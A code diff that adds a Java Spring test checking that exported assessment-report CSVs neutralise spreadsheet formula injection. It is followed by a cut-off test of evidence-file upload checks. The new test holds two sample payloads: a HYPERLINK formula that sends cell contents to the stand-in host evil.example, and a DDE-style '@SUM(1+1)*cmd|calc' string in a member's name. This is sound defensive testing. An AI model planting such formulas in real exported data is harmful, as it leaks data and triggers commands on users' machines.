@@ -209,6 +209,24 @@ class RoundsTest {
     }
 
     @Test
+    void formulasTypedIntoAFrameworkOrANameAreDefusedInTheCsv() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")";
+        String source = frameworks.find(northshire.id(), ladder, null).orElseThrow().source()
+                .replace("People with lived experience helped decide what the work is for, from the start.", "'" + formula + "'");
+        CurrentUser mallory = fixtures.member(northshire, "Mallory Evans", "@SUM(1+1)*cmd|calc", Role.PARTNER);
+        long ours = rounds.start(priya, frameworks.create(northshire.id(), priya.personId(), "Our ladder", source), "Our round",
+                LocalDate.now().plusWeeks(1), Set.of(mallory.personId()));
+        mvc.perform(post("/assessment/rounds/" + ours + "/agreed").with(as(priya)).with(csrf()).param("indicator", "1.1")
+                .param("agreed-1.1", "GETTING_THERE").param("agreedBy-1.1", String.valueOf(mallory.personId())));
+
+        String csv = mvc.perform(get("/assessment/rounds/" + ours + "/report.csv").with(as(priya))).andReturn().getResponse().getContentAsString();
+        var first = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new java.io.StringReader(csv)).getRecords().stream().filter(r -> r.get("indicator").equals("1.1")).findFirst().orElseThrow();
+        assertThat(first.get("doing_well")).isEqualTo("'" + formula);
+        assertThat(first.get("agreed_by")).isEqualTo("'@SUM(1+1)*cmd|calc");
+    }
+
+    @Test
     void evidenceFilesAreCheckedAndSeenOnlyWithinTheOrganisationByThoseAllowedToSeeResults() throws Exception {
         var wrong = new org.springframework.mock.web.MockMultipartFile("evidenceFile-1.2", "plan.exe", "application/pdf", "MZ not a pdf".getBytes());
         String refused = mvc.perform(multipartRate(jamie).file(wrong).param("rating-1.2", "DOING_WELL").param("save", "yes"))
